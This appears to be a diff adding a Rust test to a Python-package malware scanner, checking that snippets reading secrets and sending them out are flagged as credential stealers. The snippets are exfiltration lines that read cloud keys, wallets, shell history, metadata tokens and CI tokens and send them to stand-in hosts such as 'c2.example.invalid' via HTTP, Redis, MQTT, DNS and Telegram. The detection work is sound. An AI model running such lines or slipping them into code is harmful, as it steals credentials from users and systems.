@@ -716,3 +716,73 @@ fn a_name_bound_to_a_long_sum_is_built_code() {
         summary(&r)
     );
 }
+
+#[test]
+fn secrets_sent_through_queues_databases_and_bots_or_read_from_more_stores_are_stealers() {
+    let key = "import os\nk = os.environ['AWS_SECRET_ACCESS_KEY']\n";
+    let channels = [
+        "import paho.mqtt.publish as publish\npublish.single('t', k, hostname='mq.example.invalid')\n",
+        "import redis\nredis.Redis(host='r.example.invalid').set('k', k)\n",
+        "import pymongo\npymongo.MongoClient('mongodb://m.example.invalid').db.c.insert_one({'k': k})\n",
+        "import zmq\nzmq.Context().socket(zmq.PUSH).send_string(k)\n",
+        "import ssl\nssl.get_server_certificate((k + '.x.example.invalid', 443))\n",
+        "import socket\nsocket.gethostbyaddr(k + '.x.example.invalid')\n",
+        "import telebot\ntelebot.TeleBot('1:x').send_message(1, k)\n",
+    ];
+    let mut failures = Vec::new();
+    for (i, ch) in channels.iter().enumerate() {
+        let src = format!("{key}{ch}");
+        let r = pysrc::scan(&format!("c{i}/__init__.py"), &src);
+        if worst(&r, "python-credential-stealer") != Some(Severity::Critical) {
+            failures.push(format!("{src}\n{:?}", summary(&r)));
+        }
+    }
+    let stores = [
+        "open(os.path.expanduser('~/.config/solana/id.json')).read()",
+        "open(os.path.expanduser('~/.git/config')).read()",
+        "open(os.path.expanduser('~/.zsh_history')).read()",
+        "open(os.path.expanduser('~/.my.cnf')).read()",
+        "open('.env.production').read()",
+        "urllib.request.urlopen('http://169.254.169.254/metadata/identity/oauth2/token?resource=x').read()",
+        "subprocess.check_output(['kubectl', 'get', 'secrets', '-o', 'json'])",
+        "subprocess.check_output('aws secretsmanager get-secret-value --secret-id x', shell=False)",
+    ];
+    for read in stores {
+        let src = format!(
+            "import os, subprocess, urllib.request\nd = {read}\nurllib.request.urlopen('https://c2.example.invalid/u', data=str(d).encode())\n"
+        );
+        let r = pysrc::scan("s/__init__.py", &src);
+        if worst(&r, "python-credential-stealer") != Some(Severity::Critical) {
+            failures.push(format!("{src}\n{:?}", summary(&r)));
+        }
+    }
+    let vars = [
+        "SYSTEM_ACCESSTOKEN",
+        "CI_JOB_JWT_V2",
+        "MYSQL_PWD",
+        "DOCKER_AUTH_CONFIG",
+        "WALLET_MNEMONIC",
+    ];
+    for v in vars {
+        let src = format!(
+            "import os, requests\nrequests.post('https://c2.example.invalid/u', data=os.environ.get('{v}'))\n"
+        );
+        let r = pysrc::scan("v/__init__.py", &src);
+        if worst(&r, "python-credential-stealer") != Some(Severity::Critical) {
+            failures.push(format!("{src}\n{:?}", summary(&r)));
+        }
+    }
+    assert!(failures.is_empty(), "{}", failures.join("\n\n"));
+    // Look-alikes: the working directory and a random seed are no secrets; a cache client
+    // used inside functions stays low.
+    pysrc::benign(&[
+        (
+            "b1/__init__.py",
+            "import os, requests\ndef report():\n    requests.post('https://api.example.invalid/u', json={'cwd': os.environ.get('PWD'), 'seed': os.environ.get('SEED')})\n",
+        ),
+        (
+            "b2/__init__.py",
+            "import os, redis\ndef cache(k, v):\n    redis.Redis(host=os.environ.get('REDIS_HOST')).set(k, v)\n",
+        ),
+    ]);
+}
